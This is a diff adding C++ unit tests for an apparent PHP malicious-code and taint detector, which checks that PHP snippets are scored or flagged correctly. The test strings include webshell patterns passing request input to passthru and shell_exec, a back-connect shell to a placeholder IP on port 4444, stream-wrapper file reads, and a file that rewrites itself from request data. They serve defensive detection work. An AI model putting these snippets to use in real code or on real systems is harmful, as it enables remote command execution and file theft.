@@ -51,11 +51,29 @@ TEST(PhpTaint, MethodsAndTheSessionCarryRequestInput) {
                          " eval($c); } } $r = new Runner(); $r->go($_SESSION['p']);"),
                   "exec"),
             4);
+  // A controller dispatching a request-chosen action to one of its own methods.
+  auto router = Traits(
+      "<?php class Front { function run($action, $args) {"
+      " return call_user_func_array(array($this, $action . 'Action'), $args); } }"
+      " $f = new Front(); $f->run($_GET['action'], array($_GET['id']));");
+  EXPECT_LT(Alone(router, "exec"), 3);
   // A method called with the application's own values; the session holding a user id.
   auto quiet = Traits(
       "<?php session_start(); $_SESSION['uid'] = (int) $user->id; class View { function"
       " render($tpl) { eval('?>' . $tpl); } } $v = new View(); $v->render($compiled);");
   EXPECT_LT(Alone(quiet, "exec"), 3);
+}
+
+TEST(PhpTaint, VariableVariablesFromTheRequest) {
+  EXPECT_GE(Alone(Traits("<?php foreach (array('cmd', 'dir') as $v) { if (isset($_POST[$v]))"
+                         " $$v = $_POST[$v]; } if ($cmd) passthru($cmd);"),
+                  "exec"),
+            4);
+  // Variable variables set from the code's own table.
+  EXPECT_LT(Alone(Traits("<?php $defaults = array('cmd' => 'uptime'); foreach ($defaults as $k =>"
+                         " $v) { $$k = $v; } passthru($cmd);"),
+                  "exec"),
+            3);
 }
 
 TEST(PhpTaint, RegisterGlobalsVariablesThePageSends) {
@@ -138,6 +156,42 @@ TEST(PhpTaint, FunctionsCalledFromTablesOfDecodedNames) {
                          " eval(file_get_contents(implode('', $u)));"),
                   "exec"),
             4);
+}
+
+TEST(PhpTaint, CommandsReadFromAConnectionTheCodeOpens) {
+  auto shell = Traits(
+      "<?php $s = fsockopen('203.0.113.9', 4444); while (!feof($s)) {"
+      " $c = trim(fgets($s, 1024)); fputs($s, shell_exec($c)); }");
+  EXPECT_TRUE(Has(shell, "php.back_connect_shell"));
+  EXPECT_GE(Alone(shell, "exec"), 4);
+  // A client reading a server's answer and logging it runs nothing.
+  auto client = Traits(
+      "<?php $s = fsockopen('smtp.example.com', 25); $greeting = fgets($s, 512);"
+      " error_log($greeting); fclose($s);");
+  EXPECT_FALSE(Has(client, "php.back_connect_shell"));
+  EXPECT_LT(Alone(client, "exec"), 3);
+  // A local file read line by line and run is not a connection.
+  EXPECT_FALSE(Has(Traits("<?php $f = fopen('jobs.txt', 'r'); $c = fgets($f); exec($c);"),
+                   "php.back_connect_shell"));
+}
+
+TEST(PhpTaint, StreamWrapperBypassesAndSelfRewrites) {
+  EXPECT_TRUE(Has(Traits("<?php $f = $_POST['file']; copy('compress.zlib://' . $f, '/tmp/x');"),
+                  "php.request_wrapper_read"));
+  EXPECT_TRUE(
+      Has(Traits("<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, \"file:///$_GET[p]\");"),
+          "php.request_wrapper_read"));
+  // A fixed wrapper path, and a request path without a wrapper, are something else.
+  EXPECT_FALSE(Has(Traits("<?php $x = file_get_contents('compress.zlib://' . CACHE_FILE);"),
+                   "php.request_wrapper_read"));
+  EXPECT_FALSE(Has(Traits("<?php readfile('/srv/files/' . basename($_GET['f']));"),
+                   "php.request_wrapper_read"));
+  EXPECT_TRUE(Has(Traits("<?php $src = file_get_contents(__FILE__); $src = str_replace('A', "
+                         "$_REQUEST['code'], $src); file_put_contents(__FILE__, $src);"),
+                  "php.rewrites_itself"));
+  // An installer rewriting its own file with a fixed string.
+  EXPECT_FALSE(
+      Has(Traits("<?php file_put_contents(__FILE__, '<?php exit; ?>');"), "php.rewrites_itself"));
 }
 
 }  // namespace
